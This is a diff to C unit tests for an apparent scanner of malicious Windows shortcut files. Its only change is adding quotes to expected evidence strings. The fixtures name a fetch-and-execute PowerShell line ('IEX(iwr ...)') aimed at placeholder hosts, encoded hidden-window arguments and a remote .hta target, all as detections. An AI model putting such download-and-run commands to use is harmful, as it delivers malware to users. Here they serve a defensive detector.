@@ -271,7 +271,7 @@ static void powershell_downloader(void **st)
     assert_true(eg_test_has_rule(r, "CMD.HIDDEN_WINDOW"));
     const char *mid = evidence_of(r, "LNK.MACHINE_ID");
     assert_non_null(mid);
-    assert_string_equal(mid, "desktop-q7k2m");
+    assert_string_equal(mid, "\"desktop-q7k2m\"");
     bool url = false;
     for (size_t i = 0; i < eg_report_ioc_count(r); i++)
         url |= !strcmp(eg_report_ioc(r, i)->value, "http://dl.example.test/a.ps1");
@@ -299,7 +299,8 @@ static void padded_encoded_args(void **st)
     const char *ev = evidence_of(r, "CMD.POWERSHELL_ENCODED");
     assert_non_null(strstr(ev, "IEX(iwr http://x.example.test/p)"));
     ev = evidence_of(r, "LNK.TARGET");
-    assert_non_null(strstr(ev, "| arguments: -nop -e SQBFAFgA")); /* the blanks do not hide them */
+    assert_non_null(
+        strstr(ev, "| arguments: \"-nop -e SQBFAFgA")); /* the blanks do not hide them */
     eg_report_free(r);
     free(p);
 }
@@ -386,7 +387,8 @@ static void uri_item(void **st)
         eg_report *r = eg_test_scan(p, n, NULL);
         const char *ev = evidence_of(r, "LNK.TARGET");
         assert_non_null(ev);
-        assert_non_null(strstr(ev, "target: http://uri.example.test/invoice/view.hta (URI shell item)"));
+        assert_non_null(
+            strstr(ev, "target: \"http://uri.example.test/invoice/view.hta\" (URI shell item)"));
         assert_true(eg_test_has_rule(r, "LNK.REMOTE_TARGET"));
         assert_true(has_ioc(r, url));
         eg_report_free(r);
@@ -435,8 +437,9 @@ static void control_panel_item(void **st)
     eg_report *r = eg_test_scan(p, n, NULL);
     const char *ev = evidence_of(r, "LNK.TARGET");
     assert_non_null(ev);
-    assert_non_null(strstr(ev, "| control panel: {21EC2020-3AEA-1069-A2DD-08002B30309D} Control Panel; "
-                               "{BB06C0E4-D293-4F75-8A90-CB05B6477EEE} System"));
+    assert_non_null(
+        strstr(ev, "| control panel: \"{21EC2020-3AEA-1069-A2DD-08002B30309D} Control Panel; "
+                   "{BB06C0E4-D293-4F75-8A90-CB05B6477EEE} System"));
     eg_report_free(r);
     free(p);
 }
